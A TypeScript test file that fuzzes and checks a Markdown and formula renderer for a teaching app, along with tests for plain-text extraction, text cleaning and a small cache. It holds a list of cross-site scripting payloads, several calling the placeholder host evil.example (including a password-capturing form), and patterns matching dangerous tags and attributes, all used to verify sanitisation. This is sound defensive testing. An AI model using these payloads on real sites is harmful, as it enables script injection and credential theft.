import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { clean } from './clean.ts';
import { LastUsed } from './lastUsed.ts';
import { render } from './markdown.ts';
import { parts, plain } from './plain.ts';

/** Any UTF-16 unit, lone surrogates included. */
const codeUnit = fc.nat(0xffff).map((unit) => String.fromCharCode(unit));

/** Every tag of a piece of HTML; text cannot hold one, since `<` is escaped in it. */
const tagsOf = (html: string) => html.match(/<[^>]*>/g) ?? [];

/** Fails when anything that runs, loads or posts has come through. */
function harmless(html: string) {
	for (const tag of tagsOf(html)) {
		expect(tag).not.toMatch(/^<\/?(script|style|iframe|object|embed|form|input|img|svg|link|meta|base)\b/i);
		expect(tag).not.toMatch(/\s(on\w+|style|class|id|src|srcdoc|action|xlink:href)\s*=/i);
		expect(tag.replace(/[\s\0]|&#?\w+;/g, '')).not.toMatch(/(javascript|vbscript|data):/i);
		if (/^<a\b/i.test(tag)) expect(tag).toMatch(/rel="noopener nofollow" target="_blank"/);
	}
}

const attacks = [
	'<script>alert(1)</script>',
	'<ScRiPt src=//evil.example></sCrIpT>',
	'<img src=x onerror=alert(1)>',
	'<svg/onload=alert(1)>',
	'<a href="javascript:alert(1)">x</a>',
	'[x](javascript:alert(1))',
	'[x](JaVaScRiPt&colon;alert(1))',
	'[x](&#106;avascript:alert(1))',
	'[x](java\nscript:alert(1))',
	'[x](data:text/html;base64,PHNjcmlwdD4=)',
	'[x](vbscript:msgbox)',
	'[x](//evil.example)',
	'[x](/account/leave)',
	'![x](javascript:alert(1))',
	'![x](https://evil.example/pixel.gif)',
	'[x][y]\n\n[y]: javascript:alert(1)',
	'<javascript:alert(1)>',
	'[x](https://a.example "onmouseover=alert(1)")',
	'[x](https://a.example" onmouseover="alert(1))',
	'```js" onclick="alert(1)\ncode\n```',
	'$\\href{javascript:alert(1)}{x}$',
	'$\\url{javascript:alert(1)}$',
	'$\\includegraphics{https://evil.example/p.gif}$',
	'$\\htmlStyle{background:url(//e)}{x}$ $\\htmlId{a}{b}$ $\\htmlData{on=1}{b}$',
	'$\\text{<script>alert(1)</script>}$',
	'$\\frac{<img src=x onerror=alert(1)>$',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
	'<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
	'<iframe srcdoc="<script>alert(1)</script>">',
	'<style>*{background:url(//evil.example)}</style>',
	'<form action=//evil.example><input name=password></form>',
	'<!--><script>alert(1)</script-->',
	'| a |\n|---|\n| <script>alert(1)</script> |'
];

describe('what a teacher writes cannot run on a phone', () => {
	test.each(attacks)('%s', (attack) => {
		for (const inline of [false, true]) harmless(render(attack, inline));
	});

	test('nor can any mixture of attacks', () => {
		const pieces = fc.oneof(
			fc.constantFrom(...attacks),
			fc.constantFrom('$', '`', '\n\n', '"', "'", '>', '<', '*', '[', '](', ')', '\\', '|', '&', '</', '<a href='),
			fc.string({ unit: codeUnit, maxLength: 12 })
		);
		fc.assert(
			fc.property(fc.array(pieces, { maxLength: 12 }), fc.boolean(), (some, inline) => {
				harmless(render(some.join(''), inline));
			}),
			{ numRuns: 500 }
		);
	});

	test('nor does depth bring the server down', () => {
		for (const piece of ['> ', '- ', '[', '*a **b ', '${', '$\\sqrt{']) harmless(render(piece.repeat(1_000)));
	});
});

describe('Markdown', () => {
	test('keeps emphasis, lists, code and safe links', () => {
		expect(render('*a* **b** `c`', true)).toBe('<em>a</em> <strong>b</strong> <code>c</code>');
		expect(render('- a\n- b')).toMatch(/<ul>\s*<li>a<\/li>\s*<li>b<\/li>\s*<\/ul>/);
		expect(render('[a](https://b.example/?c&d)')).toBe(
			'<p><a href="https://b.example/?c&amp;d" rel="noopener nofollow" target="_blank">a</a></p>'
		);
	});

	test('inline, keeps no link and no block: the text stands in a label', () => {
		expect(render('[a](https://b.example) # c', true)).toBe('a # c');
	});

	test('shows raw HTML as it was typed', () => {
		expect(render('Que fait <b> ?', true)).toBe('Que fait &lt;b&gt; ?');
	});

	test('turns formulas into MathML without their source', () => {
		const html = render('Aire\u00a0: ($\\pi r^2$)', true);
		expect(html).toContain('<msup><mi>r</mi><mn>2</mn></msup>');
		expect(html).not.toMatch(/annotation|\\pi|style=|class=/);
		expect(render('$$\n\\frac{a}{b}\n$$')).toMatch(/^<math display="block">.*<mfrac>/s);
	});

	test.each(['5 $ et 10 $', 'de $5 à $10', 'US$5 ou US$10', '\\$x\\$'])('leaves money alone: %s', (text) => {
		expect(render(text, true)).not.toContain('<math');
	});

	test('shows a broken formula as it was typed', () => {
		expect(render('$\\frac{a$', true)).toContain('\\frac{a');
	});
});

describe('plain text', () => {
	test.each([
		['**Qui** [décide](https://a.example)\u00a0? `x < y` & *z*', 'Qui décide\u00a0? x < y & z'],
		['a\nb\n\n- c\n- d\n\n> e', 'a b c d e'],
		['Aire $r^2$, \\*', 'Aire $r^2$, *'],
		['| a | b |\n|---|---|\n| c | d |', 'a b c d']
	])('of %j', (markdown, words) => {
		expect(plain(markdown)).toBe(words);
	});

	test('comes out of anything', () => {
		fc.assert(fc.property(fc.string({ unit: codeUnit }), (text) => typeof plain(text) === 'string'));
	});

	test('a question is its first paragraph and the rest', () => {
		expect(parts('\nQue dit ce code ?\n\n```\na\n\nb\n```')).toEqual({
			first: 'Que dit ce code ?',
			rest: '```\na\n\nb\n```'
		});
		expect(parts('')).toEqual({ first: '', rest: '' });
	});
});

test('cleaned text is well formed, composed, without controls, and stays so', () => {
	expect(clean(' e\u0301\u0000\u202e\r\nb\ud800 ')).toBe('é\nb\ufffd');
	fc.assert(fc.property(fc.string({ unit: codeUnit }), (text) => clean(clean(text)) === clean(text)));
});

test('the last used are remembered, the oldest leaves', () => {
	const made: string[] = [];
	const memory = new LastUsed<string, string>(2);
	for (const key of ['a', 'b', 'a', 'c', 'a', 'b']) memory.get(key, () => (made.push(key), key));
	expect(made).toEqual(['a', 'b', 'c', 'b']);
});
